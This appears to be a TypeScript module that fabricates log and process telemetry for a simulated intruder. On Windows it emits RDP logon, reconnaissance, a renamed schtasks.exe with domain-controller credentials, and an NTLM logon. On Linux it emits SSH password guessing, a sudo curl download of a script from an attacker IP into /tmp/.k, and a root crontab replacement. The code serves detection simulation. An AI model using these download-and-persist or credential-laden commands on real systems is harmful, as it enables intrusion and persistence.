// The adversary's activity on the endpoints that host it (activity.ts hostsAdversary): every
// ADVERSARY_CYCLE slots, in about half of the cycles, a fixed sequence of steps in consecutive
// slots. Windows: adm_peter logs on over RDP from a pivot host, opens cmd.exe, runs whoami and
// net group, runs the renamed schtasks.exe with the DC, account and password on its command
// line, connects to the DC, and svc_iis logs on over the network with NTLM from the same host.
// Linux: passwords for adm_peter guessed over SSH from outside until one is accepted, then sudo
// curl of a script to /tmp/.k and root's crontab replaced with it.
import { Rng } from "@/engine/client/pool/random";
import { type Activity, type AnchorProc, type EndpointActivity, type Logon, type SynthProcess } from "./activity";
import { linuxPid, startLinuxProcess } from "./linux-activity";
import { accountSid, ADVERSARY, NETWORK, SCHTASKS_ARGS } from "./people";
import { mix, unit } from "./slots";
import { startWindowsProcess } from "./windows-activity";
import { CMD, NET, SCHTASKS, WHOAMI } from "./windows-programs";

/** Slots per cycle; the session step (cmd.exe, sshd) falls on a multiple of it (alive() looks there). */
export const ADVERSARY_CYCLE = 96;

/** The step of slot k when the adversary acts in it, else undefined. `lead` steps come before a cycle's first slot. */
function stepOf(e: EndpointActivity, k: number, lead: number, steps: number): number | undefined {
  const s = (k + lead) % ADVERSARY_CYCLE;
  if (s >= steps) return undefined;
  const cycle = Math.floor((k + lead) / ADVERSARY_CYCLE);
  return unit(e.profile.seed, cycle, 0xa77) < 0.5 ? s : undefined;
}

const asAnchor = (p: SynthProcess): AnchorProc => ({ pid: p.pid, name: p.name, image: p.image, commandLine: p.commandLine, user: p.user, guid: p.guid });
const rngOf = (e: EndpointActivity, k: number) => new Rng(mix(e.profile.seed, k, 0xa771));
const ADMIN_USER = `CORP\\${ADVERSARY.admin}`;

/** The adversary's cmd.exe, started in slot kCmd (step 1), alive for the endpoint's sessionMs. */
function adversaryCmd(e: EndpointActivity, kCmd: number): SynthProcess {
  return startWindowsProcess(e, kCmd, CMD, rngOf(e, kCmd), { user: ADMIN_USER, args: "", lifeMs: e.sessionMs });
}

const RENAMED = { ...SCHTASKS, image: ADVERSARY.renamedSchtasks };

function adversaryLogon(e: EndpointActivity, k: number, user: string, logonType: number, ntlm: boolean): Logon {
  const r = rngOf(e, k);
  return {
    success: true,
    user,
    domain: "CORP",
    sid: accountSid(user),
    logonType,
    ip: ADVERSARY.pivotIp,
    port: r.int(49152, 65535),
    workstation: ADVERSARY.pivotHost,
    logonProcess: ntlm ? "NtLmSsp " : "User32 ",
    authPackage: ntlm ? "NTLM" : "Negotiate",
    logonId: `0x${r.int(0x100000, 0xffffff).toString(16)}`,
  };
}

export function windowsAdversaryStep(e: EndpointActivity, k: number): Activity | undefined {
  // Step 1 (cmd.exe, long-lived) lands on a multiple of ADVERSARY_CYCLE.
  const step = stepOf(e, k, 1, 7);
  if (step === undefined) return undefined;
  const time = e.slots.timeOf(k);
  const base = { k, time, adversary: true as const };
  const kCmd = k - step + 1;
  switch (step) {
    case 0:
      return { ...base, kind: "logon", logon: adversaryLogon(e, k, ADVERSARY.admin, 10, false) };
    case 1:
      return { ...base, kind: "process", proc: adversaryCmd(e, k) };
    case 2:
    case 3:
    case 4: {
      const parent = asAnchor(adversaryCmd(e, kCmd));
      const prog = step === 2 ? WHOAMI : step === 3 ? NET : RENAMED;
      const args = step === 4 ? SCHTASKS_ARGS : prog.args[0]!;
      return { ...base, kind: "process", proc: startWindowsProcess(e, k, prog, rngOf(e, k), { user: ADMIN_USER, parent, args, lifeMs: Math.min(600 + (k % 1400), e.shortMs) }) };
    }
    case 5: {
      const schtasks = startWindowsProcess(e, k - 1, RENAMED, rngOf(e, k - 1), { user: ADMIN_USER, parent: asAnchor(adversaryCmd(e, kCmd)), args: SCHTASKS_ARGS });
      return { ...base, kind: "network", proc: asAnchor(schtasks), protocol: "tcp", sourcePort: rngOf(e, k).int(49152, 65535), destIp: NETWORK.dc.ip, destHost: NETWORK.dc.host, destPort: 135 };
    }
    default:
      return { ...base, kind: "logon", logon: adversaryLogon(e, k, ADVERSARY.service, 3, true) };
  }
}

const SSH = "sshd";
const portOf = (e: EndpointActivity, k: number) => 32768 + (mix(e.profile.seed, k, 0x5504) % 28000);

export function linuxAdversaryStep(e: EndpointActivity, k: number): Activity | undefined {
  // Step 5 (the accepted login, whose session lives on) lands on a multiple of ADVERSARY_CYCLE.
  const step = stepOf(e, k, 5, 9);
  if (step === undefined) return undefined;
  const time = e.slots.timeOf(k);
  const base = { k, time, adversary: true as const, kind: "syslog" as const };
  const kSession = k - step + 5;
  const session = () => startLinuxProcess(e, kSession, { exe: "/usr/sbin/sshd", commandLine: `sshd: ${ADVERSARY.admin} [priv]`, user: "root", parent: e.anchor("sshd"), lifeMs: e.sessionMs });
  const from = `from ${ADVERSARY.externalIp} port ${portOf(e, k)} ssh2`;
  if (step < 5) return { ...base, file: "auth", program: SSH, pid: linuxPid(k), message: `Failed password for ${ADVERSARY.admin} ${from}` };
  if (step === 5) return { ...base, file: "auth", program: SSH, pid: linuxPid(k), message: `Accepted password for ${ADVERSARY.admin} ${from}`, proc: session() };
  if (step === 6) return { ...base, file: "auth", program: SSH, pid: linuxPid(kSession), message: `pam_unix(sshd:session): session opened for user ${ADVERSARY.admin}(uid=1003) by (uid=0)` };
  const parent = session();
  const parentAnchor: AnchorProc = { pid: parent.pid, name: parent.name, image: parent.image, commandLine: parent.commandLine, user: parent.user, guid: parent.guid };
  if (step === 7) {
    const cmd = `/usr/bin/curl -fsSL http://${ADVERSARY.externalIp}/k.sh -o ${ADVERSARY.dropped}`;
    const proc = startLinuxProcess(e, k, { exe: "/usr/bin/curl", commandLine: cmd, user: "root", parent: parentAnchor, lifeMs: Math.min(4_000, e.shortMs) });
    return { ...base, file: "auth", program: "sudo", pid: 0, message: `  ${ADVERSARY.admin} : TTY=pts/0 ; PWD=/home/${ADVERSARY.admin} ; USER=root ; COMMAND=${cmd}`, proc, files: [{ action: "created", path: ADVERSARY.dropped, size: 1893 }] };
  }
  const proc = startLinuxProcess(e, k, { exe: "/usr/bin/crontab", commandLine: `crontab ${ADVERSARY.dropped}`, user: "root", parent: parentAnchor, lifeMs: Math.min(2_000, e.shortMs) });
  return { ...base, file: "syslog", program: "crontab", pid: proc.pid, message: "(root) REPLACE (root)", proc, files: [{ action: "modified", path: ADVERSARY.crontab, size: 311 }] };
}
